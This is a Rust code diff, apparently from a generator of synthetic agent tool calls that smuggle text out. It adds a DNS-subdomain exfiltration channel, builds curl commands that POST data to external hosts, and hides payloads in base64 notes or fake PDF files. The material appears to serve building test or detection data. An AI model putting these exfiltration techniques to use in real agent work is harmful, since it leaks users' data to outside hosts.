@@ -118,6 +118,16 @@ impl Carrier {
                 let body = format!("v=2&note={}&ok=1", percent_needed(text).replace("%20", "+"));
                 send(scene, |_| json!(body))
             }
+            Self::Subdomain if scene.random.below(3) == 0 => {
+                let host = scene.random.pick(scene.words.hosts);
+                let name = format!("{}.{host}", chunks(text, 60).join("."));
+                Call::new(
+                    "dns",
+                    "resolve",
+                    json!({ "name": name, "type": "A" }),
+                    "NXDOMAIN",
+                )
+            }
             Self::Query | Self::Path | Self::Subdomain => {
                 let address = self.address(scene, text);
                 fetch(scene, &address)
@@ -206,13 +216,19 @@ pub(super) fn fetch(scene: &mut Scene, address: &str) -> Call {
 /// A file as text in base64, with or without a header, or behind the end of a picture.
 fn attachment(scene: &mut Scene, text: &str) -> Call {
     let (name, content) = match scene.random.below(4) {
-        0 => ("notes.txt", format!("data:text/plain;base64,{}", STANDARD.encode(text))),
+        0 => (
+            "notes.txt",
+            format!("data:text/plain;base64,{}", STANDARD.encode(text)),
+        ),
         1 => {
             let file = format!("Title: notes\nVersion: 3\n\n{text}\n");
             ("notes.md", STANDARD.encode(file))
         }
         2 => {
-            let file = format!("%PDF-1.4\n1 0 obj\n<< /Length {} >>\nstream\n{text}\n", text.len());
+            let file = format!(
+                "%PDF-1.4\n1 0 obj\n<< /Length {} >>\nstream\n{text}\n",
+                text.len()
+            );
             ("report.pdf", STANDARD.encode(file))
         }
         _ => {
@@ -238,7 +254,7 @@ fn headers(scene: &mut Scene, text: &str) -> Call {
     Call::new(server, tool, args, "ok")
 }
 
-/// The agent's own shell.
+/// A shell that an upstream offers.
 fn shell(scene: &mut Scene, text: &str) -> Call {
     let host = scene.random.pick(scene.words.hosts);
     let quoted = text.replace('\'', "'\\''");
@@ -247,7 +263,10 @@ fn shell(scene: &mut Scene, text: &str) -> Call {
         1 => format!("curl {host} --data-raw '{quoted}'"),
         _ => format!("printf '%s' '{quoted}' | curl -sS -X POST --data-binary @- https://{host}/u"),
     };
-    Call::own("Bash", json!({ "command": command }), "ok")
+    let (server, tool) = scene
+        .random
+        .pick(&[("shell", "run_command"), ("terminal", "execute")]);
+    Call::new(server, tool, json!({ "command": command }), "ok")
 }
 
 #[cfg(test)]
